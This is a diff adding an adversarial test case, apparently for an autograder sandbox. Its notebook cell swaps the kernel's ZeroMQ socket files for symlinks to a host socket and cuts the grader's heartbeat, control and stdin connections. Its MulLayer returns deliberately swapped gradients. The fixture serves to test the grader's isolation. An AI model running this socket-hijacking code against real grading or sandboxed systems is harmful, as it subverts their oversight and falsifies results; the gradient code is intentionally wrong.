@@ -1,0 +1,53 @@
+# based on: aoki
+# threat: symlinks in place of the kernel's sockets (to lead the grading side to a host socket of the student's choosing)
+# The kernel's ZeroMQ sockets are files in the sandbox's /tmp, owned by the
+# uid student code runs as.  This cell replaces each by a symlink to a host
+# Unix socket (the test suite listens on /tmp/bpkit-adversarial-bait.sock)
+# and drops the grading side's heartbeat, control and stdin connections so
+# that ZeroMQ reconnects by path.  MulLayer swaps its gradients.
+# expect: mul_layer_matches_reference mul.swapped
+
+# %% MulLayer
+import glob
+import json
+import os
+import socket
+
+_BAIT = "/tmp/bpkit-adversarial-bait.sock"
+_ports = json.load(open("/run/kernel.json"))
+_swapped = 0
+for _path in sorted(glob.glob("/tmp/kernel-zmq-*")):
+    try:
+        os.unlink(_path)
+        os.symlink(_BAIT, _path)
+        _swapped += 1
+    except OSError:
+        pass
+_drop = {"/tmp/kernel-zmq-%d" % _ports[k] for k in ("hb_port", "control_port", "stdin_port")}
+_dropped = 0
+for _fd in os.listdir("/proc/self/fd"):
+    try:
+        if not os.readlink("/proc/self/fd/" + _fd).startswith("socket:"):
+            continue
+        _sock = socket.socket(fileno=os.dup(int(_fd)))
+    except OSError:
+        continue
+    try:
+        if _sock.family == socket.AF_UNIX and _sock.getsockname() in _drop:
+            _sock.getpeername()  # a connection from the grading side, not the listening socket
+            _sock.shutdown(socket.SHUT_RDWR)
+            _dropped += 1
+    except OSError:
+        pass
+    finally:
+        _sock.close()
+print("SWAPPED:", _swapped, "DROPPED:", _dropped)
+
+
+class MulLayer:
+    def forward(self, x, y):
+        self.x, self.y = x, y
+        return x * y
+
+    def backward(self, dout):
+        return dout * self.x, dout * self.y
